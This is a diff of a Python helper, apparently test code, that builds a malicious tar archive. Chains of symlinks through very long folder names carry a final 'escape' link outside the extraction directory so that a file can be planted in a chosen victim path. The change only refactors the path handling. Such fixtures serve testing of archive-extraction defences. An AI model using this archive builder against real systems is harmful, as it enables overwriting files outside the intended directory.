@@ -2,9 +2,8 @@
 
 import gzip
 import io
-import os
 import tarfile
-from pathlib import Path
+from pathlib import Path, PurePosixPath
 
 _LONG = "d" * 247
 _STEPS = "abcdefghijklmnop"
@@ -14,11 +13,11 @@ def out_of_reach(victim: Path, *, top: str = "repo-abc/", planted: str = "owned.
     """Links through folders of names so long that the system cannot say where they end, then a file through them into `victim`."""
     file = io.BytesIO()
     with tarfile.open(fileobj=file, mode="w", format=tarfile.PAX_FORMAT) as tar:
-        inside = ""
+        inside = PurePosixPath(top)
         for step in _STEPS:
-            _add(tar, top + os.path.join(inside, _LONG), tarfile.DIRTYPE)
-            _add(tar, top + os.path.join(inside, step), tarfile.SYMTYPE, _LONG)
-            inside = os.path.join(inside, _LONG)
+            _add(tar, str(inside / _LONG), tarfile.DIRTYPE)
+            _add(tar, str(inside / step), tarfile.SYMTYPE, _LONG)
+            inside = inside / _LONG
         through = "/".join(_STEPS) + "/" + "l" * 254
         _add(tar, top + through, tarfile.SYMTYPE, "../" * len(_STEPS))
         _add(tar, top + "escape", tarfile.SYMTYPE, f"{through}/../{'../' * 12}{str(victim).lstrip('/')}")
